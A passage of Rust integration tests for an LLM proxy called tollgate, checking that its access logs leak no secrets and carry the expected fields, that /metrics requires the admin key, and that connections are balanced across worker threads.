                .header("authorization", format!("Bearer {ADMIN}"))
                .body(empty())
                .unwrap(),
        )
        .await;
        assert_eq!(r.json()["numQueries"], 1);
        eventually("access line written", STEP, || async {
            bin.lines()
                .iter()
                .any(|l| l.contains("tollgate::access"))
                .then_some(())
        })
        .await;
        bin.stop().await;

        let lines = bin.lines();
        for l in &lines {
            for secret in [
                PROMPT,
                "PURPLE-ELEPHANT",
                ANSWER,
                UPSTREAM,
                ADMIN,
                &key,
                BAD_KEY,
            ] {
                assert!(!l.contains(secret), "{format} log leaks {secret:?}: {l}");
            }
        }
        let access: Vec<&String> = lines
            .iter()
            .filter(|l| l.contains("tollgate::access"))
            .collect();
        assert_eq!(access.len(), 1, "{format}: {lines:#?}");
        let line = access[0];
        if format == "json" {
            for l in &lines {
                serde_json::from_str::<Value>(l)
                    .unwrap_or_else(|e| panic!("not a JSON log line ({e}): {l}"));
            }
            let v: Value = serde_json::from_str(line).unwrap();
            assert_eq!(v["target"], "tollgate::access");
            assert_eq!(v["level"], "INFO");
            let f = &v["fields"];
            assert_eq!(f["user"], "alice", "{v}");
            assert_eq!(f["endpoint"], "/v1/chat/completions");
            assert_eq!(f["model"], "gpt-m");
            assert_eq!(f["status"], 200);
            assert_eq!(f["stream"], false);
            assert_eq!(f["query_tokens"], 42);
            assert_eq!(f["answer_tokens"], 7);
            assert_eq!(f["cached_tokens"], 0);
            assert_eq!(f["estimated"], false);
            assert_eq!(f["cost"], "0", "no prices loaded");
            assert_eq!(f["request_id"], request_id.as_str());
            assert!(f["duration_ms"].as_f64().unwrap() >= 0.0, "{v}");
            assert!(f["ttfb_ms"].as_f64().is_some(), "{v}");
        } else {
            for part in [
                "user=\"alice\"",
                "endpoint=\"/v1/chat/completions\"",
                "model=\"gpt-m\"",
                "status=200",
                "query_tokens=42",
                "answer_tokens=7",
                &format!("request_id=\"{request_id}\""),
                "duration_ms=",
            ] {
                assert!(line.contains(part), "{part} missing: {line}");
            }
        }
    }
}

/// The admin client helper of the harness sends the admin key; without it
/// `/metrics` is an admin endpoint like the others.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metrics_need_the_admin_key_when_one_is_set() {
    let mock = ops_mock(Tok::new(1, 1)).await;
    let p = Proxy::builder(&mock.url()).admin("ops-admin").start().await;
    let r = send(p.addr, get("/metrics")).await;
    assert_openai_error(
        &r,
        401,
        "invalid_request_error",
        None,
        Some("invalid_api_key"),
    );
    let r = p.admin_call(Method::GET, "/metrics", "").await;
    assert_eq!(r.status, 200);
}

/// Keep-alive connections are spread over the server workers (each worker
/// is a thread of its own with no work stealing, so an uneven split would
/// leave one core idle): opened one after another, no worker holds more than
/// one connection above another. `tollgate_connections` follows them open and
/// closed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connections_are_spread_over_the_workers() {
    use http_body_util::BodyExt;
    let mock = ops_mock(Tok::new(3, 2)).await;
    let p = Proxy::start(&mock.url()).await;
    let mut held = Vec::new();
    for _ in 0..29 {
        let stream = tokio::net::TcpStream::connect(p.addr).await.unwrap();
        let (mut tx, conn) =
            hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(stream))
                .await
                .unwrap();
        let task = tokio::spawn(conn);
        let mut req = chat_req("alice", &chat_body("gpt-m", false));
        req.headers_mut()
            .insert("host", p.addr.to_string().parse().unwrap());
        let resp = within("answer", tx.send_request(req)).await.unwrap();
        assert_eq!(resp.status(), 200);
        resp.into_body().collect().await.unwrap();
        held.push((tx, task));
    }
    let per_worker = |s: &[Sample]| -> Vec<f64> {
        s.iter()
            .filter(|x| x.name == "tollgate_connections")
            .map(|x| x.value)
            .collect()
    };
    let (_, s) = metrics_of(&p).await;
    let counts = per_worker(&s);
    assert!(!counts.is_empty(), "one gauge per worker");
    // The 29 held connections and the one asking for /metrics.
    assert_eq!(counts.iter().sum::<f64>(), 30.0, "{counts:?}");
    let max = counts.iter().cloned().fold(f64::MIN, f64::max);
    let min = counts.iter().cloned().fold(f64::MAX, f64::min);
    assert!(max - min <= 1.0, "uneven: {counts:?}");

    for (tx, task) in held {
        drop(tx);
        let _ = task.await;
    }
    eventually("connections closed", Duration::from_secs(5), || async {
        let (_, s) = metrics_of(&p).await;
        (per_worker(&s).iter().sum::<f64>() == 1.0).then_some(())
    })
    .await;
}
